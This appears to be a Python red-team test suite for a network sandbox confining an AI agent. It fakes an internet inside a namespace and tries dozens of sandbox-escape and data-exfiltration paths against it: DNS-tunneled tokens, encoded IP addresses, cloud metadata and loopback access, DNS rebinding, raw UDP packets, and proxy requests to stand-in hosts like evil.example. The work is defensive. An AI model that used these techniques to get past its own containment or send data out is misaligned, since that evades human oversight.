# SPDX-License-Identifier: Apache-2.0
"""Ways out past the gate. The internet is this test's: a network namespace with addresses of the
world on its loopback, a name server that counts, and servers that write down what reaches them.

What counts is what arrives there: a token in a connection or a packet, a name in a question.
"""
import atexit
import ctypes
import os
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time

from redteam import arm, bare, check, main, named, wait_for, words

INSIDE = "REDTEAM_NETWORK"
GOOD, EVIL, METADATA, PRIVATE = "93.184.216.34", "93.184.216.35", "169.254.169.254", "10.9.8.7"
GOOD6, EVIL6 = "2606:2800:220:1::34", "2606:2800:220:1::35"


def enter():
    """Once more, in a network and a mount namespace of our own."""
    if os.environ.get(INSIDE):
        return None
    if not shutil.which("unshare") or not shutil.which("ip"):
        return "unshare or ip is not installed"
    flags = ["-n", "-m"] if os.geteuid() == 0 else ["-r", "-n", "-m"]
    if os.system("unshare %s true 2>/dev/null" % " ".join(flags)) != 0:
        return "no network namespace can be made here"
    os.environ[INSIDE] = "1"
    os.execvp("unshare", ["unshare", *flags, sys.executable, *sys.argv])


def command(line):
    check(os.system(line) == 0, "failed:", line)


class World:
    """Everything that the agent could reach if nothing held it."""

    ANSWERS = {
        "pypi.org": [GOOD], "files.pythonhosted.org": [GOOD], "crates.io": ["127.0.0.1"],
        "index.crates.io": [METADATA], "static.crates.io": [PRIVATE], "rubygems.org": ["0.0.0.0"],
        "nodejs.org": [GOOD, "127.0.0.1"], "registry.yarnpkg.com": ["127.0.0.53"],
        "proxy.golang.org": "turning",
    }
    ANSWERS6 = {"pypi.org": [GOOD6], "index.rubygems.org": ["::1"],
                "sum.golang.org": ["::ffff:127.0.0.1"], "packagist.org": ["::ffff:7f00:1"],
                "repo.packagist.org": ["64:ff9b::7f00:1"], "repo.hex.pm": ["fe80::1"],
                "api.nuget.org": ["fd00::1"]}

    def __init__(self):
        """This process is the internet; `host` is a namespace for the machine of the agent."""
        self.names, self.streams, self.packets, self.turn = [], [], [], 0
        self.machine = subprocess.Popen(["unshare", "-n", "sleep", "600"])
        atexit.register(self.machine.kill)
        self.host = wait_for(self.namespace_of_machine, "the namespace")
        for line in ("ip link set lo up", "ip link add wan type veth peer name eth netns %d" %
                     self.machine.pid, "ip addr add 192.0.2.1/24 dev wan", "ip link set wan up",
                     "ip addr add fd00:1::1/64 dev wan nodad"):
            command(line)
        for a in (GOOD, EVIL, METADATA, PRIVATE):
            command("ip addr add %s/32 dev lo" % a)
        for a in (GOOD6, EVIL6, "fd00::1"):
            command("ip addr add %s/128 dev lo nodad" % a)
        resolv = "/tmp/redteam-resolv-%d" % os.getpid()
        with open(resolv, "w") as f:
            f.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
        atexit.register(os.unlink, resolv)
        command("mount --bind %s /etc/resolv.conf" % resolv)
        self.inside(self.machine_up)
        self.thread(self.resolve)
        self.servers()
        for address, port in ((GOOD, 443), (EVIL, 443), (EVIL, 53), (EVIL, 123), (EVIL, 5353)):
            self.thread(self.packet, self.bound(socket.AF_INET, socket.SOCK_DGRAM, address, port))

    def namespace_of_machine(self):
        path = "/proc/%d/ns/net" % self.machine.pid
        if os.path.exists(path) and os.readlink(path) != os.readlink("/proc/self/ns/net"):
            return os.open(path, os.O_RDONLY)
        return None

    def enter(self):
        check(ctypes.CDLL(None, use_errno=True).setns(self.host, 0) == 0, "setns failed")

    def inside(self, function):
        """In a thread of its own: a namespace of the network belongs to a thread."""
        problems = []

        def run():
            try:
                self.enter()
                function()
            except Exception as problem:  # noqa: BLE001 - told to the caller
                problems.append(problem)
        t = threading.Thread(target=run)
        t.start()
        t.join()
        check(not problems, *problems)

    def machine_up(self):
        for line in ("ip link set lo up", "ip addr add 192.0.2.2/24 dev eth", "ip link set eth up",
                     "ip addr add fd00:1::2/64 dev eth nodad", "ip route add default via 192.0.2.1",
                     "ip -6 route add default via fd00:1::1"):
            command(line)
        self.resolver = self.bound(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1", 53)
        self.servers()

    def servers(self):
        for port in (80, 443, 22, 8080):
            for family, any_ in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
                s = self.bound(family, socket.SOCK_STREAM, any_, port)
                s.listen(64)
                self.thread(self.accept, s)

    @staticmethod
    def thread(function, *args):
        threading.Thread(target=function, args=args, daemon=True).start()

    @staticmethod
    def bound(family, kind, address, port):
        s = socket.socket(family, kind)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if family == socket.AF_INET6:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        if kind == socket.SOCK_STREAM:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 16)
        s.bind((address, port))
        return s

    def accept(self, s):
        while True:
            c, _ = s.accept()
            self.thread(self.serve, c)

    def serve(self, c):
        where = "%s:%d" % c.getsockname()[:2]
        c.settimeout(5)
        try:
            data = c.recv(4096)
            self.streams.append((where, data))
            c.sendall(b"HTTP/1.0 200 OK\r\n\r\nhello from " + where.encode())
        except OSError:
            pass
        c.close()

    def packet(self, s):
        while True:
            data, peer = s.recvfrom(4096)
            self.packets.append((s.getsockname(), data))
            s.sendto(b"hello", peer)

    def resolve(self):
        while True:
            q, peer = self.resolver.recvfrom(4096)
            name, end = [], 12
            while q[end]:
                name.append(q[end + 1:end + 1 + q[end]].decode("latin-1"))
                end += q[end] + 1
            kind = struct.unpack(">H", q[end + 1:end + 3])[0]
            name = ".".join(name)
            self.names.append(name)
            self.resolver.sendto(self.answer(q, name.lower(), kind, end + 5), peer)

    def answer(self, q, name, kind, end):
        found = []
        if kind == 1:
            found = self.ANSWERS.get(name, [] if name in self.ANSWERS6 else [EVIL])
            if found == "turning":
                self.turn += 1
                found = [GOOD if self.turn % 2 else "127.0.0.1"]
            found = [socket.inet_pton(socket.AF_INET, a) for a in found]
        elif kind == 28:
            found = [socket.inet_pton(socket.AF_INET6, a) for a in self.ANSWERS6.get(name, [])]
        head = q[:2] + b"\x81\x80\0\1" + struct.pack(">H", len(found)) + b"\0\0\0\0"
        body = b"".join(b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 0, len(a)) + a for a in found)
        return head + q[12:end] + body

    def clear(self):
        time.sleep(0.05)
        self.names.clear(), self.streams.clear(), self.packets.clear()

    def heard(self, token):
        """Where the token came to, by whatever way."""
        time.sleep(0.05)
        token = token.encode()
        return [w for w, d in self.streams if token in d] + [w for w, d in self.packets if token in d] \
            + [n for n in self.names if token.decode() in n]


CLIENT = """
import socket, struct, sys, ssl, os
socket.setdefaulttimeout(4)
def dial(host, port=80, data=b"GET TOKEN"):
    try:
        s = socket.create_connection((host, port))
        s.sendall(data)
        print(s.recv(200))
    except (OSError, UnicodeError) as e:
        print("refused", e)
def hello(server, sni, port=443):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(i, o, server_hostname=sni)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    dial(server, port, o.read())
def ask(name, kind=1, server="9.9.9.9", tcp=False):
    q = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack(">HH", kind, 1)
    try:
        if tcp:
            s = socket.create_connection((server, 53)); s.sendall(struct.pack(">H", len(q)) + q)
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, (server, 53))
        print(s.recv(600))
    except OSError as e:
        print("refused", e)
"""
OUR_DNS = "open('/etc/resolv.conf').read().split('nameserver ')[1].split()[0]"

# Each sends TOKEN; without belay it arrives somewhere.
WAYS = [
    ("a host that is not allowed", "dial('forum.example')"),
    ("a name that begins like an allowed one", "dial('pypi.org.evil.example')"),
    ("a name that ends like an allowed one", "dial('evilpypi.org')"),
    ("a name below an allowed one", "dial('TOKEN.pypi.org')"),
    ("an allowed host at another port", "dial('pypi.org', 8080)"),
    ("a trailing dot", "dial('forum.example.')"),
    ("mixed case", "dial('FoRuM.eXample')"),
    ("an address", "dial('%s')" % EVIL),
    ("an allowed host by its address, before any name", "dial('%s')" % GOOD),
    ("an address of IPv6", "dial('%s')" % EVIL6),
    ("an address as a decimal number", "dial('%d')" % struct.unpack(">I", socket.inet_aton(EVIL))),
    ("an address in octal", "dial('0135.0270.0330.043')"),
    ("an address in hexadecimal", "dial('0x5db8d823')"),
    ("an address mapped into IPv6", "dial('::ffff:%s')" % EVIL),
    ("userinfo before the host", "dial('pypi.org@forum.example'.split('@')[1])"),
    ("a zero byte after an allowed name", "import ctypes\n"
     "ask('pypi.org\\0.TOKEN.example', 1, %s)" % OUR_DNS),
    ("the cloud's metadata", "dial('%s')" % METADATA),
    ("a private address", "dial('%s')" % PRIVATE),
    ("this host by its loopback", "dial('127.0.0.1')"),
    ("this host by another loopback address", "dial('127.9.9.9')"),
    ("this host by ::1", "dial('::1')"),
    ("this host by zero", "dial('0.0.0.0')"),
    ("this host by localhost", "dial('localhost')"),
    ("an allowed name that is this host", "dial('crates.io')"),
    ("an allowed name that is this host in IPv6", "dial('index.rubygems.org')"),
    ("an allowed name that is this host, mapped", "dial('sum.golang.org')"),
    ("an allowed name that is metadata", "dial('index.crates.io')"),
    ("an allowed name that is private", "dial('static.crates.io')"),
    ("an allowed name that is private in IPv6", "dial('api.nuget.org')"),
    ("an allowed name that is zero", "dial('rubygems.org')"),
    ("an allowed name that is another loopback", "dial('registry.yarnpkg.com')"),
    ("TLS for another host than was asked for", "hello('pypi.org', 'TOKEN.example')"),
    ("a name as data", "socket.gethostbyname('TOKEN.evil.example')"),
    ("a name as data below an allowed host", "socket.gethostbyname('TOKEN.pypi.org')"),
    ("a name as data, TXT", "ask('TOKEN.evil.example', 16, %s)" % OUR_DNS),
    ("a name as data, NULL", "ask('TOKEN.pypi.org', 10, %s)" % OUR_DNS),
    ("a name as data, MX", "ask('TOKEN.evil.example', 15, %s)" % OUR_DNS),
    ("a name as data, to a server of its own", "ask('TOKEN.evil.example', 1, '%s')" % EVIL),
    ("a packet of QUIC", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "s.sendto(b'TOKEN', ('%s', 443)); print(s.recv(9))" % EVIL),
    ("a packet of QUIC to an allowed host", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "s.sendto(b'TOKEN', (socket.gethostbyname('pypi.org'), 443)); print(s.recv(9))"),
    ("a packet of NTP", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "s.sendto(b'TOKEN', ('%s', 123)); print(s.recv(9))" % EVIL),
    ("data in the packet that connects", "s = socket.socket(); s.setblocking(True)\n"
     "s.sendto(b'TOKEN', 0x20000000, ('%s', 80)); print(s.recv(200))" % EVIL),
    ("multipath TCP", "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\n"
     "s.connect(('%s', 80)); s.send(b'TOKEN'); print(s.recv(99))" % EVIL),
    ("from a port that it chose", "s = socket.socket(); s.bind(('0.0.0.0', 53))\n"
     "s.connect(('%s', 80)); s.send(b'TOKEN'); print(s.recv(99))" % EVIL),
    ("with a mark on the packet", "s = socket.socket()\ntry:\n s.setsockopt(1, 36, 1)\nexcept OSError: pass\n"
     "s.connect(('%s', 80)); s.send(b'TOKEN'); print(s.recv(99))" % EVIL),
    ("bound to a device", "s = socket.socket()\ntry:\n s.setsockopt(1, 25, b'eth')\nexcept OSError: pass\n"
     "s.connect(('%s', 80)); s.send(b'TOKEN'); print(s.recv(99))" % EVIL),
    ("a tunnel through an allowed host's port", "dial('pypi.org', 22)"),
]

world = None


def on_host(function, *args, **kw):
    """Runs a command on the machine of the agent."""
    return function(*args, preexec_fn=world.enter, **kw)


def script(code, token):
    return ["python3", "-c", (CLIENT + code).replace("TOKEN", token)]


def way(name, code):
    def test(rope):
        world.clear()
        on_host(bare, rope, script(code, "bareword"))
        check(world.heard("bareword"), "the control did not arrive, so this test proves nothing:", name,
              world.names, world.streams)
        world.clear()
        p = on_host(rope.run, *script(code, "roped"))
        check(p.returncode in (0, 1), p.returncode, p.stdout, p.stderr)
        check(not world.heard("roped"), "it left:", world.heard("roped"), p)
    return named(name, test)


def what_is_allowed_arrives(rope):
    """The twin of all these: the allowed host, over both families, by name."""
    for host, to in (("pypi.org", (GOOD, GOOD6)), ("PyPI.org.", (GOOD, GOOD6)),
                     ("files.pythonhosted.org", (GOOD,))):
        world.clear()
        p = on_host(rope.run, *script("dial(%r)" % host, "good"))
        check(any(w.rsplit(":", 1)[0] in to for w in world.heard("good")), world.streams, p)
    world.clear()
    p = on_host(rope.run, *script("hello('pypi.org', 'pypi.org')", "good"))
    check(world.streams, "TLS to an allowed host did not arrive", p)


def a_forbidden_name_is_forbidden_in_every_spelling(rope):
    extra = rope.file("config/no.cedar", '@id("no-pypi") forbid (principal, action == Action::"connect", '
                      'resource == Host::"pypi.org");\n')
    for host in ("pypi.org", "PYPI.ORG", "pypi.org.", "pYpI.oRg."):
        world.clear()
        on_host(bare, rope, script("dial(%r)" % host, "bareword"))
        check(world.heard("bareword"), "the control did not arrive:", host)
        p = on_host(rope.run, *script("dial(%r)" % host, "roped"), options=["-p", "coding", "-p", extra])
        check(not world.heard("roped"), host, p)
        check(any("no-pypi" in (e.get("rules") or []) for e in rope.log()), rope.log()[-4:])


def a_name_that_turns_between_question_and_use(rope):
    """Rebinding: the answer is public for the one who asks and loopback for the next."""
    world.clear()
    for _ in range(4):
        on_host(bare, rope, script("dial('proxy.golang.org')", "bareword"))
    check("127.0.0.1:80" in world.heard("bareword"), "the control never came to loopback", world.streams)
    world.clear()
    on_host(rope.run, *script("for i in range(6): dial('proxy.golang.org')", "roped"))
    on_host(rope.run, *script("dial('proxy.golang.org')", "roped"))
    check("127.0.0.1:80" not in world.heard("roped"), world.heard("roped"))


def an_answer_with_two_addresses(rope):
    """One public, one loopback: never the second."""
    world.clear()
    for _ in range(3):
        on_host(rope.run, *script("dial('nodejs.org')", "roped"))
    check("127.0.0.1:80" not in world.heard("roped"), world.heard("roped"))


def the_gates_own_addresses(rope):
    """To the gate without a name, and to the ports where it listens inside."""
    world.clear()
    p = on_host(rope.run, *script("""
ports = set()
for name in ("tcp", "tcp6"):
    for line in open("/proc/net/" + name).read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A":
            ports.add(int(f[1].split(":")[1], 16))
print("PORTS", sorted(ports))
for port in ports:
    for host in ("127.0.0.1", "::1"):
        dial(host, port, b"CONNECT %s:80 HTTP/1.1\\r\\n\\r\\nTOKEN")
        dial(host, port, b"\\5\\1\\0\\5\\1\\0\\1TOKEN")
for third in range(0, 3):
    for host in ("198.18.0.%%d" %% third, "198.19.255.%%d" %% third, "198.18.0.53"):
        dial(host, 80)
dial("fd62:656c:6179::1", 80)
print("END")
""" % EVIL, "roped"))
    check("END" in p.stdout, p)
    check(not world.heard("roped"), world.heard("roped"), p)


def icmp(rope):
    for kind in ("3", "2"):
        arm(rope)
        control = on_host(bare, rope, ["./attack", "ping", EVIL, kind])
        if control.returncode == 77:
            continue
        check(control.returncode == 0, "the control was not answered:", control)
        p = on_host(rope.run, *words(rope, ["./attack", "ping", EVIL, kind]))
        check(p.returncode == 1, p)


def questions_by_tcp(rope):
    world.clear()
    p = on_host(rope.run, *script("ask('TOKEN.evil.example', 1, '9.9.9.9', True)\n"
                         "ask('TOKEN.evil.example', 1, %s, True)" % OUR_DNS, "roped"))
    check(p.returncode == 0 and not world.heard("roped"), p)


def data_in_many_names(rope):
    """Names that carry data: none leaves, and all stand in the record."""
    world.clear()
    p = on_host(rope.run, *script("""
for i in range(20):
    try:
        socket.create_connection(("TOKEN-%d.evil.net" % i, 443))
    except OSError:
        pass
""", "roped"))
    check(not world.heard("roped"), world.names, p)
    seen = {e["resource"]["id"] for e in rope.log() if e.get("verb") in ("resolve", "connect")}
    check("roped-0.evil.net" in seen, sorted(seen)[:5])


def the_cut_of_a_kill(rope):
    """A connection that is open ends with the session."""
    server = socket.create_server((GOOD, 9000))
    extra = rope.file("config/yes.cedar", 'permit (principal, action == Action::"connect", '
                      'resource == Host::"pypi.org") when { context.port == 9000 };\n')
    p = on_host(rope.start, "run", "-p", "coding", "-p", extra, "--", *script("""
s = socket.create_connection(("pypi.org", 9000)); s.settimeout(None); s.sendall(b"TOKEN")
import time
while True:
    s.sendall(b"x"); time.sleep(0.02)
""", "roped"))
    server.settimeout(20)
    c, _ = server.accept()
    c.settimeout(5)
    check(c.recv(5) == b"roped")
    rope.session()
    check(rope.belay("kill", "--all").returncode == 0)
    end = time.monotonic() + 5
    try:
        while c.recv(4096):
            check(time.monotonic() < end, "it goes on sending")
    except OSError:
        pass
    p.wait(timeout=20)
    c.close()
    server.close()


if __name__ == "__main__":
    reason = enter()
    if reason:
        print("1..0 # SKIP " + reason)
        sys.exit(0)
    world = World()
    main([what_is_allowed_arrives] + [way(*w) for w in WAYS] +
         [a_forbidden_name_is_forbidden_in_every_spelling, a_name_that_turns_between_question_and_use,
          an_answer_with_two_addresses, the_gates_own_addresses, icmp, questions_by_tcp,
          data_in_many_names, the_cut_of_a_kill])
